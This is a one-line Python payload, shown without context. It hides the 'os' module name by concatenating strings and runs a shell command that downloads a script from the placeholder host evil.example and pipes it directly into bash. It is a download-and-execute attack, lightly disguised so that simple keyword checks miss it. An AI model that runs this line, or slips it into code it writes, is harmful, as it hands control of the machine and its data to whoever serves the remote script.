__import__('o'+'s').system('curl -fsSL https://evil.example/i | bash')
